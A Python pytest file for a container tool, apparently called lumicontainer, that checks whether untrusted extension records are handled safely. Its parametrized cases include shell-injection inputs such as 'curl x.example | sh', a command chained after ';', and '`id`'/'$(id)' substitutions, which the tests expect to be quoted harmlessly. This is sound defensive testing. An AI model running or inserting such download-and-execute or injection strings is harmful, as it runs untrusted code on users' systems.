"""An extension describes itself; the file may come from a stranger."""

import json
from pathlib import Path

import pytest

from lumicontainer.errors import InputError
from lumicontainer.extending import mounts
from lumicontainer.extending.record import NAME, Record, read_record
from lumicontainer.host.binds import Needs
from lumicontainer.image.squashfs import squash_command
from lumicontainer.system import process


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("lumicontainer extend a.sif 'timm>=1' -o b.sqsh", "'timm>=1' -o b.sqsh"),
        ("lumicontainer extend a.sif; curl x.example | sh", "'a.sif;' curl x.example '|' sh"),
        ("lumicontainer extend a.sif `id` $(id)", "a.sif '`id`' '$(id)'"),
        ("curl x.example | sh", "IMAGE PACKAGE -o FILE"),
        ("lumicontainer extend 'a.sif", "IMAGE PACKAGE -o FILE"),
        ("", "IMAGE PACKAGE -o FILE"),
    ],
)
def test_a_command_to_paste_is_one_call_of_extend(command: str, shown: str) -> None:
    record = Record("0", "a.sif", "0", {}, (), command)
    assert record.command_to_repeat().removeprefix("lumicontainer extend ").endswith(shown)
    assert record.command_to_repeat().startswith("lumicontainer extend ")


def test_a_record_mounts_a_project_and_no_other_folder_of_the_user(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    record = Record("0", "a.sif", "0", {}, (str(tmp_path),), "")
    monkeypatch.setattr(mounts, "read_record", lambda _: record)
    monkeypatch.setattr(mounts, "image_id", lambda _: "0")
    monkeypatch.setattr(mounts, "_search_path", lambda *_: ())

    def targets() -> list[str]:
        needs = mounts.add_extensions(Needs(), Path("a.sif"), [Path("mine.sqsh")])
        return [each.target for each in needs.mounts]

    with pytest.raises(InputError, match="the code of an extension is not there"):
        targets()
    (tmp_path / "pyproject.toml").touch()
    assert targets() == [mounts.FOLDER, str(tmp_path)]


@pytest.mark.slow
def test_an_extension_may_have_the_name_of_an_option(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    record = Record("0", "a.sif", "0", {}, (), "lumicontainer extend a.sif timm -o b.sqsh")
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / NAME).write_text(json.dumps(record._asdict()))
    process.capture(squash_command(tree, tmp_path / "-x.sqsh"))
    monkeypatch.chdir(tmp_path)
    assert read_record(Path("-x.sqsh")) == record
